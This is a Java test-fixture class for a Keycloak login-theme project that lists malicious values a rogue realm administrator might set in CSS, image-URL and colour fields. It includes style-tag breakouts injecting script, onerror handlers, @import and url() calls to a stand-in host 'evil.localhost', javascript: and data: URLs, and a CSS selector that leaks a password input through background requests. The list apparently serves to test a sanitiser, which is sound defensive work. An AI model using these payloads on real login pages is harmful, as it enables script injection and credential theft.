package io.github.keycloakcognito.browser;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Values that an evil realm administrator could set, by what each tries. {@code EVIL} is a foreign
 * origin.
 */
final class LoginThemeAttacks {

  private static final String EVIL = "http://evil.localhost:9/x.png";
  private static final String SCRIPT = "<script>window.attacked=1</script>";
  private static final String HANDLER = "<img id=attack src=x onerror=window.attacked=1>";

  private LoginThemeAttacks() {}

  /** For {@code css}. */
  static Map<String, String> css() {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("end of the style element", "a{}</style>" + SCRIPT);
    all.put("end in capitals with space", "a{}</STYLE\t>" + HANDLER);
    all.put("end in a comment", "/* </style>" + SCRIPT + " */");
    all.put("end in a string", "a{content:\"</style>" + HANDLER + "\"}");
    all.put("half an end", "a{}</style");
    all.put("HTML comment", "<!-- a{color:red} -->");
    all.put("HTML entities", "a{}&lt;/style&gt;&#60;script&#62;window.attacked=1&#60;/script&#62;");
    all.put("import", "@import \"" + EVIL + "\";");
    all.put("import by url", "@import url(" + EVIL + ");");
    all.put("import after a rule", "a{color:red}@import '" + EVIL + "';");
    all.put("import in capitals", "@IMPORT \"" + EVIL + "\";");
    all.put("import with an escape", "@\\69mport \"" + EVIL + "\";");
    all.put("import after a byte order mark", "\uFEFF@import \"" + EVIL + "\";");
    all.put("font face", "@font-face{font-family:x;src:url(" + EVIL + ")}*{font-family:x}");
    all.put("namespace", "@namespace url(" + EVIL + ");");
    all.put("rule in supports", "@supports (color:red){a{background:url(" + EVIL + ")}}");
    all.put("url", background("url(" + EVIL + ")"));
    all.put("url in double quotes", background("url(\"" + EVIL + "\")"));
    all.put("url in single quotes", background("url('" + EVIL + "')"));
    all.put("url in capitals", background("URL(" + EVIL + ")"));
    all.put("url with an escape", background("\\75rl(" + EVIL + ")"));
    all.put("url with a long escape", background("u\\000072l(" + EVIL + ")"));
    all.put("url with an escaped newline", background("u\\\nrl(" + EVIL + ")"));
    all.put("url with a comment", background("url/**/(" + EVIL + ")"));
    all.put("url behind a comment", background("/*x*/url(" + EVIL + ")"));
    all.put("url with a newline", background("url(\n" + EVIL + "\n)"));
    all.put("url in full width letters", background("ｕｒｌ(" + EVIL + ")"));
    all.put("url with a soft hyphen", background("u\u00ADrl(" + EVIL + ")"));
    all.put("url without protocol", background("url(//evil.localhost:9/x.png)"));
    all.put("url with backslashes", background("url(\\\\evil.localhost:9/x.png)"));
    all.put("url of this server", background("url(/realms/demo/x.png)"));
    all.put("url that is not closed", "body{background:url(" + EVIL);
    all.put("url in an allowed function", background("linear-gradient(red, url(" + EVIL + "))"));
    all.put("url right behind a function", background("rgb(1 2 3)url(" + EVIL + ")"));
    all.put("url in a custom property", "body{--x:url(" + EVIL + ");background:var(--x)}");
    all.put("url as fallback", background("var(--none, url(" + EVIL + "))"));
    all.put("the stock theme's property", ":root{--keycloak-bg-logo-url:url(" + EVIL + ")}");
    all.put("image set", background("image-set(\"" + EVIL + "\" 1x)"));
    all.put("prefixed image set", background("-webkit-image-set(url(" + EVIL + ") 1x)"));
    all.put("image function", background("image(\"" + EVIL + "\")"));
    all.put("src function", background("src(\"" + EVIL + "\")"));
    all.put("cross fade", background("cross-fade(url(" + EVIL + "),red)"));
    all.put("element function", background("element(#kc-header)"));
    all.put("attribute as url", background("attr(href url)"));
    all.put("password by selectors", "input[value^=\"a\"]{background:url(" + EVIL + ")}");
    all.put("cursor", "*{cursor:url(" + EVIL + "),auto}");
    all.put("content", "body::before{content:url(" + EVIL + ")}");
    all.put("script url", background("url(javascript:window.attacked=1)"));
    all.put("data url", background("url(data:text/html,<script>window.attacked=1</script>)"));
    all.put("expression", "a{width:expression(window.attacked=1)}");
    all.put("behavior", "a{behavior:url(" + EVIL + ")}");
    all.put("binding", "a{-moz-binding:url(" + EVIL + ")}");
    all.put("filter of old", "a{filter:progid:DXImageTransform.Microsoft.gradient(x=1)}");
    all.put("FreeMarker", "a{color:${realm.name}}");
    all.put("FreeMarker of old", "a{color:#{1+1}}");
    all.put("FreeMarker directive", "<#assign x=1>a{color:red}</#assign>");
    all.put("no closing brace", "a{color:red");
    all.put("brace too many", "a{color:red}}");
    all.put("no closing quote", "a{content:\"x}");
    all.put("no closing comment", "a{color:red}/* x");
    all.put("no closing parenthesis", "a{color:rgb(1 2 3;}");
    all.put("parenthesis in a selector", "a({color:red}");
    all.put("NUL", "a{color:red}\u0000@import \"" + EVIL + "\";");
    all.put("line separator", "a{color:red}\u2028@import \"" + EVIL + "\";");
    all.put("form feed", "a{color:red}\f@import \"" + EVIL + "\";");
    all.put("second line", "a{color:red}\n@import \"" + EVIL + "\";\n");
    all.put("too long", "a{color:red}".repeat(1000));
    all.put("too deep", background("calc(".repeat(1000) + "1px" + ")".repeat(1000)));
    return all;
  }

  /** For the attributes that name an image. */
  static Map<String, String> images() {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("foreign origin", EVIL);
    all.put("foreign origin over https", "https://evil.localhost:9/x.png");
    all.put("no protocol", "//evil.localhost:9/x.png");
    all.put("backslashes", "/\\evil.localhost:9/x.png");
    all.put("tab in front of the host", "/\t/evil.localhost:9/x.png");
    all.put("newline in front of the host", "/\n/evil.localhost:9/x.png");
    all.put("user info", "/@evil.localhost:9/x.png");
    all.put("up", "/../x.png");
    all.put("encoded up", "/%2e%2e/x.png");
    all.put("query", "/realms/demo/protocol/openid-connect/logout?x.png");
    all.put("fragment", "/x.svg#.png");
    all.put("no image", "/realms/demo/protocol/openid-connect/logout");
    all.put("script", "javascript:window.attacked=1//.png");
    all.put("page as data", "data:text/html;base64,PHNjcmlwdD4=");
    all.put("SVG as data", "data:image/svg+xml;base64,PHN2Zy8+");
    all.put("data that is not base64", "data:image/png,<svg onload=window.attacked=1>");
    all.put("data with parameters", "data:image/png;x=\";base64,AAAA");
    all.put("second line", "/x.png\n\");}body{background:url(" + EVIL + ")}");
    all.put("end of the string", "/x.png\");}*{background:url(" + EVIL + ")}/*.png");
    all.put("escape of the string", "/x\\22);}*{background:url(x.png");
    all.put("end of the style element", "/x</style>" + SCRIPT + ".png");
    all.put("end of the attribute", "/x.png\" onload=\"window.attacked=1");
    all.put("FreeMarker", "/${realm.name}.png");
    all.put("NUL", "/x\u0000.png");
    all.put("too long", "data:image/png;base64," + "A".repeat(150_000));
    all.put("too long a path", "/" + "a".repeat(500) + ".png");
    return all;
  }

  /** For colours and numbers. */
  static Map<String, String> plain() {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("word", "red");
    all.put("two digits", "#12");
    all.put("five digits", "#12345");
    all.put("no digits", "#12345g");
    all.put("digits of another script", "#１２３");
    all.put("further declaration", "#123456;background:url(" + EVIL + ")");
    all.put("further rule", "#123456}*{background:url(" + EVIL + ")}");
    all.put("second line", "#123456\nbackground:url(" + EVIL + ")");
    all.put("url", "url(" + EVIL + ")");
    all.put("function", "var(--x,url(" + EVIL + "))");
    all.put("end of the style element", "#123456</style>" + SCRIPT);
    all.put("comment", "#123456/*");
    all.put("negative", "-1");
    all.put("too big", "999");
    all.put("fraction", "1.5");
    all.put("unit", "12px");
    all.put("many digits", "1".repeat(5000));
    all.put("FreeMarker", "${1+1}");
    return all;
  }

  private static String background(String value) {
    return "body{background:" + value + "}";
  }
}
